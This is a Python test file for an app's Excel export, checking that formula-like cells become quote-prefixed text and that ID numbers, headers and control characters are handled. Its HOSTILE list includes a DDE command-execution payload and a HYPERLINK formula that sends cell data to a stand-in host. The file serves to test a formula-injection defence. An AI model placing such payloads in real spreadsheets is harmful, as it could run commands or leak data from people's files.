"""Every workbook the app writes: no live formulas, long digits as text, a frozen bold header."""

import io

from openpyxl import load_workbook

from core.excel import ExcelWriter

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


def written(rows, header=("姓名", "身份证号")):
    out = io.BytesIO()
    with ExcelWriter(out) as book:
        sheet = book.sheet("名单", header)
        for row in rows:
            sheet.append(row)
    out.seek(0)
    return load_workbook(out)


def test_formula_like_cells_are_text_with_a_quote_prefix():
    sheet = written([[value, "x"] for value in HOSTILE])["名单"]
    cells = [sheet.cell(row=i + 2, column=1) for i in range(len(HOSTILE))]
    # XML reads a carriage return back as a line feed; the cell is text either way.
    assert [c.value for c in cells] == [v.replace("\r", "\n") for v in HOSTILE]
    assert all(c.data_type == "s" for c in cells)
    assert all(c.quotePrefix for c in cells)


def test_id_numbers_stay_text_and_exact():
    sheet = written([["李小明", "442000198112124218"]])["名单"]
    cell = sheet.cell(row=2, column=2)
    assert cell.value == "442000198112124218"
    assert cell.data_type == "s"


def test_header_is_bold_and_frozen_and_columns_are_wide_enough():
    sheet = written([["李小明", "442000198112124218"]])["名单"]
    assert sheet.freeze_panes == "A2"
    assert sheet.cell(row=1, column=1).font.bold
    assert sheet.column_dimensions["B"].width >= 18


def test_more_rows_than_the_width_sample_are_all_written():
    sheet = written([[f"人{i}", str(i)] for i in range(450)])["名单"]
    assert sheet.max_row == 451
    assert sheet.cell(row=451, column=1).value == "人449"


def test_control_characters_that_xml_cannot_hold_are_dropped():
    sheet = written([["李\x00小\x0bè明", "1"]])["名单"]
    assert sheet.cell(row=2, column=1).value == "李小è明"
